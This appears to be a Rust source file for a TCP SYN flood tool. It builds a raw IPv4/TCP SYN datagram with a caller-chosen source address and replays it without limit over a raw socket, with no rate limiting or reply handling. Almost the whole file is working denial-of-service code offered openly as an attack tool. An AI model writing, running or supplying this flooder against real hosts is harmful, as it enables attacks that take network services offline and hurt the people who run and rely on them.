use std::net::{IpAddr, Ipv4Addr};
use std::sync::atomic::{AtomicBool, Ordering};

use anyhow::{Context, Result};
use bytes::Bytes;
use pnet::packet::ip::IpNextHeaderProtocols;
use pnet::transport::{transport_channel, TransportChannelType::Layer3, TransportSender};

use crate::layer3::ipv4::{Ipv4PacketMut, Ipv4Protocol};
use crate::layer4::tcp::TcpPacketMut;

// The raw channel is sized well above the one 40-byte datagram it carries.
pub const DATAGRAM_BUFFER_SIZE: usize = 4096;

const LOG_INTERVAL: u64 = 100_000;

/// Fixed header-field values written into every segment. Defaults are the
/// documented constants of the wire format; tests override them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SynFloodConfig {
    /// IPv4 identification. Any value works, replies are never read.
    pub identification: u16,
    /// TCP source port. Same remark, never used for reply correlation.
    pub source_port: u16,
    pub time_to_live: u8,
    pub window_size: u16,
}

impl Default for SynFloodConfig {
    fn default() -> Self {
        Self {
            identification: 50000,
            source_port: 3313,
            time_to_live: 255,
            window_size: 5840,
        }
    }
}

/// Build the complete IPv4+TCP SYN datagram. Runs once; the returned bytes
/// are immutable and are replayed unchanged on every send.
pub fn build_syn_datagram(
    config: &SynFloodConfig,
    source: Ipv4Addr,
    destination: Ipv4Addr,
    destination_port: u16,
) -> Bytes {
    let mut tcp_pkt = TcpPacketMut::minimal();
    tcp_pkt
        .set_source_port(config.source_port)
        .set_destination_port(destination_port)
        .set_sequence_number(0)
        .set_ack_number(0)
        .set_header_length_bytes(20)
        .set_syn_bit(true)
        .set_window_size(config.window_size)
        .set_urgent_pointer(0)
        .calc_and_set_checksum(source, destination);

    let mut ipv4_pkt = Ipv4PacketMut::minimal();
    ipv4_pkt
        .set_type_of_service(0)
        .set_identification(config.identification)
        .set_flags(0)
        .set_time_to_live(config.time_to_live)
        .set_protocol(Ipv4Protocol::Tcp)
        .set_source_address_slice(source.octets())
        .set_destination_address_slice(destination.octets())
        .set_payload(&tcp_pkt.convert_to_tcp_packet().to_bytes());
    ipv4_pkt.build();
    ipv4_pkt.convert_to_ipv4packet().to_bytes()
}

pub trait DatagramSender: Send {
    fn send_datagram(&mut self, datagram: &[u8], destination: Ipv4Addr) -> std::io::Result<usize>;
}

struct RawSocketSender {
    tx: TransportSender,
}

impl DatagramSender for RawSocketSender {
    fn send_datagram(&mut self, datagram: &[u8], destination: Ipv4Addr) -> std::io::Result<usize> {
        // The datagram already carries its IP header; the Layer3 channel
        // hands it to the kernel verbatim.
        let packet = match pnet::packet::ipv4::Ipv4Packet::new(datagram) {
            Some(packet) => packet,
            None => {
                return Err(std::io::Error::new(
                    std::io::ErrorKind::InvalidInput,
                    "Datagram is shorter than an IPv4 header.",
                ))
            }
        };
        self.tx.send_to(packet, IpAddr::V4(destination))
    }
}

pub struct Flooder {
    sender: Box<dyn DatagramSender>,
    datagram: Bytes,
    destination: Ipv4Addr,
}

impl Flooder {
    /// Open the raw socket and build the datagram. Raw sockets need
    /// elevated privilege on every platform; failure here is fatal.
    pub fn configure(
        config: &SynFloodConfig,
        source: Ipv4Addr,
        destination: Ipv4Addr,
        destination_port: u16,
    ) -> Result<Self> {
        let (tx, _) = transport_channel(DATAGRAM_BUFFER_SIZE, Layer3(IpNextHeaderProtocols::Tcp))
            .context("Failed to open a raw socket. Try running with root privilege.")?;

        let datagram = build_syn_datagram(config, source, destination, destination_port);
        log::debug!("SYN datagram: {:x?}", &datagram[..]);

        Ok(Self {
            sender: Box::new(RawSocketSender { tx }),
            datagram,
            destination,
        })
    }

    #[cfg(test)]
    fn with_sender(sender: Box<dyn DatagramSender>, datagram: Bytes, destination: Ipv4Addr) -> Self {
        Self {
            sender,
            datagram,
            destination,
        }
    }

    #[allow(dead_code)]
    pub fn datagram(&self) -> &Bytes {
        &self.datagram
    }

    /// Replay the identical datagram until `stop` is tripped or `count`
    /// segments have been sent (endless when `count` is None). Each send is
    /// fire-and-forget: failures are not inspected, retried or rate-limited.
    pub async fn run(&mut self, count: Option<u64>, stop: &AtomicBool) -> u64 {
        let mut sent = 0u64;
        while !stop.load(Ordering::Relaxed) {
            if let Some(limit) = count {
                if sent >= limit {
                    break;
                }
            }
            let _ = self.sender.send_datagram(&self.datagram, self.destination);
            sent += 1;
            if sent % LOG_INTERVAL == 0 {
                log::debug!("Sent {sent} SYN segments.");
            }
            tokio::task::yield_now().await;
        }
        sent
    }
}
